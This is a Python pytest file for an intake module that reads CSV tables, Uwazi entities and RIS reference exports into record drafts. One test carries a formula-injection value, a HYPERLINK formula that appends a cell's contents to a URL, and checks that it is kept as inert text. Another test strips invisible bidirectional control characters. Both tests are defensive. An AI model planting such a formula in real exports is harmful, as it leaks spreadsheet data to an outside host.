"""Tables of sources and references as drafts: what the heads say, and nothing lost beside it."""

from collections.abc import Iterator

import pytest

from app.confined.worker import Worker
from app.errors import InputError
from app.intake.draft import Certainty, Draft
from app.intake.reading import Reading, drafts_from, read_source, source_of
from app.intake.segments import body_text
from app.records.vocabularies import ArticleType, Kind
from tests.intake.test_martus import extra_of, record_of


@pytest.fixture(scope="module")
def worker() -> Iterator[Worker]:
    """One for all tests of this file."""
    with Worker() as made:
        yield made


def read(worker: Worker, text: str | bytes, name: str = "sources.csv") -> Reading:
    """The drafts of a table."""
    data = text if isinstance(text, bytes) else text.encode()
    return read_source(source_of(name, data), worker)


def only(worker: Worker, text: str | bytes, name: str = "sources.csv") -> Draft:
    """The draft of a table with one row."""
    (draft,) = read(worker, text, name).drafts
    return draft


def test_a_row_fills_the_fields_that_its_heads_name(worker: Worker) -> None:
    """A list of press articles as people keep it."""
    draft = only(
        worker,
        "Title;Author;Publisher;Date;URL;Full text;Language;Keywords;Shelf\n"
        "Ferries stop;Ilse Varga;The Halden Courier;2 June 2021;https://example.org/1;"
        '"The ferries have stopped.\n\nTraders wait.";English;ferry, river;B-12\n',
    )
    record = record_of(draft)
    assert record.kind is Kind.ARTICLE and record.article is not None
    assert record.title == "Ferries stop"
    assert record.article.authors == ("Ilse Varga",)
    assert record.article.publisher == "The Halden Courier"
    assert record.article.published is not None
    assert record.article.published.edtf == "2021-06-02"
    assert record.article.capture.address == "https://example.org/1"
    assert [each.text for each in record.text.segments] == [
        "The ferries have stopped.", "Traders wait.",
    ]  # fmt: skip
    assert (record.languages, record.tags) == (("en",), ("ferry", "river"))
    assert extra_of(draft) == [("Shelf", "B-12")]


@pytest.mark.parametrize(
    "heads",
    [
        "Titel,Autor,Verlag,Datum,Link,Volltext", "titre,auteur,éditeur,date,lien,texte",
        "Título,Autor,Fuente,Fecha,Enlace,Texto", "Заголовок,Автор,Источник,Дата,Ссылка,Текст",
        "العنوان,الكاتب,المصدر,التاريخ,الرابط,النص", "标题,作者,来源,日期,链接,正文",
        "제목,기자,언론사,날짜,링크,본문", "TITLE,AUTHOR(S),SOURCE,PUBLICATION_DATE,URL,BODY",
    ],
)  # fmt: skip
def test_heads_are_known_in_many_languages(worker: Worker, heads: str) -> None:
    """The same row under heads of other languages is the same source."""
    heads = heads.replace("AUTHOR(S)", "AUTHORS")
    draft = only(worker, f"{heads}\nA,B,C,2019-03-14,https://example.org/,D\n")
    published = draft.published.value
    assert (draft.title.value, draft.authors.value, draft.publisher.value) == ("A", ("B",), "C")
    assert published is not None and published.edtf == "2019-03-14"
    assert (draft.further.address, body_text(draft)) == ("https://example.org/", "D")
    assert draft.further.extra == ()


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "cp1251"])
def test_a_table_in_an_old_encoding_is_read(worker: Worker, encoding: str) -> None:
    """Spreadsheets save in the encoding of their computer."""
    text = (
        "Заголовок;Текст\nПаром не ходит;Паром через нижний Сарн не ходит с понедельника, "
        "говорят жители, и никто не знает, когда он снова пойдёт.\n"
    )
    draft = only(worker, text.encode(encoding))
    assert draft.title.value == "Паром не ходит"
    assert draft.languages.value == ("ru",)


def test_a_day_that_can_be_read_in_two_ways_fills_no_field(worker: Worker) -> None:
    """It is suggested, and stays as it was written; one that is no date stays too."""
    first, second = read(worker, "title,date\na,03/04/2019\nb,last spring\n").drafts
    assert first.published.value is None
    assert first.suggested_published.certainty is Certainty.GUESS
    assert extra_of(first) == [("date", "03/04/2019")]
    assert (second.published.value, second.suggested_published.value) == (None, None)
    assert extra_of(second) == [("date", "last spring")]


@pytest.mark.parametrize(
    ("stated", "edtf"),
    [("2019", "2019"), ("2019-03", "2019-03"), ("2019-03-14", "2019-03-14"), ("201X", "201X"),
     ("2019-03-14T16:54:00Z", "2019-03-14T16:54:00Z"),
     ("14.3.2019", "2019-03-14"),
     ("March 14, 2019", "2019-03-14"), ("2019/3/14", "2019-03-14")],
)  # fmt: skip
def test_a_date_is_as_precise_as_it_was_stated(worker: Worker, stated: str, edtf: str) -> None:
    """A year stays a year."""
    published = only(worker, f'title,published\na,"{stated}"\n').published.value
    assert published is not None
    assert published.edtf == edtf


def test_a_row_without_title_and_text_has_its_reason(worker: Worker) -> None:
    """The rows beside it are read; one with a text alone gets a proposed title."""
    reading = read(worker, "title,text,note\n,,x\na,,\n,The ferry stops. It is cold.,\n")
    assert [each.reason for each in reading.refused] == [
        "Row 2: it has neither a title nor a text."
    ]
    titles = [(draft.title.value, draft.title.certainty) for draft in reading.drafts]
    assert titles == [("a", Certainty.CERTAIN), ("The ferry stops.", Certainty.GUESS)]


def test_a_table_that_names_no_title_and_no_text_is_refused_whole(worker: Worker) -> None:
    """One reason, not one for each row."""
    with pytest.raises(InputError, match="title or a text"):
        drafts_from(source_of("words.csv", b"English,Spanish\nriver,rio\n"), worker)


def test_short_rows_are_in_the_language_of_the_table(worker: Worker) -> None:
    """A few words say little by themselves; another script says that it is none of it."""
    rows = (
        "The ferries have stopped for the winter, and nobody would say when they cross again.",
        "Residents said that the ice had come early, and that the guides had been told.",
        "Traders wait.", "Ice on the river", "도강이 멈추었다", "Лёд",
    )  # fmt: skip
    drafts = read(worker, "title\n" + "".join(f'"{row}"\n' for row in rows)).drafts
    assert [draft.languages.value for draft in drafts] == [
        ("en",), ("en",), ("en",), ("en",), ("ko",), (),
    ]  # fmt: skip
    assert Certainty.GUESS not in [draft.languages.certainty for draft in drafts]


def test_marks_that_nobody_sees_do_not_come_along(worker: Worker) -> None:
    """What turns letters around or steers a terminal is no part of any value."""
    draft = only(worker, 'title,author,note\u202e,tags\na\u202eb,c\u2066d,"e\u200ff\ng",h\u200b\n')
    assert (draft.title.value, draft.authors.value, draft.further.tags) == ("ab", ("cd",), ("h",))
    assert extra_of(draft) == [("note", "ef\ng")]


def test_values_that_find_no_head_or_no_room_are_kept(worker: Worker) -> None:
    """A second title, cells beyond the heads, and a column without a head."""
    draft = only(worker, "title,headline,,text\na,b,c,d,e\n")
    assert draft.title.value == "a"
    assert extra_of(draft) == [("headline", "b"), ("Column 3", "c"), ("Column 5", "e")]


def test_a_formula_becomes_a_text_like_any_other(worker: Worker) -> None:
    """Nothing is worked out, here or in the record."""
    hostile = '=HYPERLINK("http://example.org/?"&A1)'
    quoted = hostile.replace('"', '""')
    draft = only(worker, f'title,text,note\n"{quoted}","{quoted}","{quoted}"\n')
    assert draft.title.value == hostile
    assert body_text(draft) == hostile
    assert extra_of(draft) == [("note", hostile)]


@pytest.mark.parametrize(
    ("table", "kind"),
    [
        ("title,publisher\na,b\n", Kind.ARTICLE),
        ("title,type\na,Witness statement\n", Kind.TESTIMONY),
        ("title,type\na,News article\n", Kind.ARTICLE),
        ("title,interviewee\na,b\n", Kind.TESTIMONY),
        ("title__es,name__es\na,b\n", Kind.TESTIMONY),
        ("title__es,publisher\na,b\n", Kind.ARTICLE),
        ('title,text\na,"I ran.\nI hid in my aunt\'s house.\nI still dream of it.\nMy son is '
         'gone."\n', Kind.TESTIMONY),
    ],
)  # fmt: skip
def test_what_somebody_may_have_told_in_confidence_is_a_testimony(
    worker: Worker, table: str, kind: Kind
) -> None:
    """An article may go everywhere: only what looks like a publication is one."""
    assert only(worker, table).kind.value is kind


def test_entities_of_uwazi_keep_all_their_languages(worker: Worker) -> None:
    """The first language with a title is the record's; places and lists stay as they stand."""
    draft = only(
        worker,
        "title__es,title__en,descripcion__es,descripcion__en,where_geolocation,file,Tags\n"
        "Barca,Boat,Una barca.,A boat.,1.5|2,a.pdf|b.pdf,river|boat\n",
    )
    assert (draft.title.value, draft.languages.value) == ("Barca", ("es",))
    assert body_text(draft) == "Una barca."
    assert draft.further.tags == ("river", "boat")
    assert extra_of(draft) == [
        ("title (en)", "Boat"), ("descripcion (en)", "A boat."),
        ("where_geolocation", "1.5|2"), ("file", "a.pdf|b.pdf"),
    ]  # fmt: skip


def test_a_testimony_of_a_table_loses_nothing_that_only_articles_have(worker: Worker) -> None:
    """Publisher and address of a testimony that nobody called public are extra fields."""
    draft = only(worker, "title,publisher,url,interviewee\na,Courier,https://example.org/,R\n")
    record = record_of(draft)
    assert record.kind is Kind.TESTIMONY
    assert [(each.label, each.value) for each in record.extra] == [
        ("interviewee", "R"), ("Publisher", "Courier"), ("Address", "https://example.org/"),
    ]  # fmt: skip


def test_references_fill_fields_and_keep_every_other_tag(worker: Worker) -> None:
    """A newspaper article as a citation program exports it."""
    draft = only(
        worker,
        "TY  - NEWS\nTI  - Ferries stop\nAU  - Varga, Ilse\nAU  - Odo, Tarek\n"
        "JO  - The Halden Courier\nPB  - Halden Press\nDA  - 2021/06/02/\nPY  - 2021\n"
        "UR  - https://example.org/1\nAB  - No ferries.\nKW  - ferry\nKW  - river\nLA  - English\n"
        "Y2  - 2021/07/01\nN1  - from the box\nXX  - odd\nER  - \n",
        "list.ris",
    )
    record = record_of(draft)
    assert record.article is not None
    assert record.article.type is ArticleType.NEWS
    assert record.article.authors == ("Varga, Ilse", "Odo, Tarek")
    assert record.article.publisher == "The Halden Courier"
    assert record.date is not None and record.date.edtf == "2021-06-02"
    assert record.article.capture.at is not None
    assert record.article.capture.at.edtf == "2021-07-01"
    assert record.text.summary == "No ferries."
    assert (record.tags, record.languages) == (("ferry", "river"), ("en",))
    assert extra_of(draft) == [
        ("Type of reference (TY)", "NEWS"), ("Publisher (PB)", "Halden Press"), ("PY", "2021"),
        ("Note (N1)", "from the box"), ("XX", "odd"),
    ]  # fmt: skip


def test_references_are_known_without_their_ending_and_refused_one_by_one(worker: Worker) -> None:
    """Pasted into a text file they are references all the same."""
    reading = read(worker, "TY  - JOUR\nAU  - A\nER  - \nTY  - PCOMM\nTI  - B\nER  - \n", "a.txt")
    assert [each.reason for each in reading.refused] == [
        "Reference 1: it has neither a title nor a text."
    ]
    assert [draft.kind.value for draft in reading.drafts] == [Kind.TESTIMONY]


def test_an_entry_has_the_same_name_wherever_its_columns_stand(worker: Worker) -> None:
    """Rows that say the same are told apart by their number, so that none is lost."""
    first = read(worker, "title,date\na,2019\na,2019\nb,2019\n").drafts
    again = read(worker, "date;title\n2019;b\n2019;a\n2019;a\n2020;a\n", "other.csv").drafts
    names = [draft.further.entry for draft in first]
    assert len(set(names)) == 3
    assert set(names) < {draft.further.entry for draft in again}


def test_drafts_of_a_table_stand_one_behind_the_other(worker: Worker) -> None:
    """Each line belongs to one draft, so that the review can show the table as a whole."""
    drafts = read(worker, 'title,text\na,"b\nc"\nd,e\n').drafts
    assert [line.number for draft in drafts for line in draft.lines] == list(
        range(1, drafts[-1].last_line + 1)
    )
    assert drafts[0].last_line + 1 == drafts[1].first_line
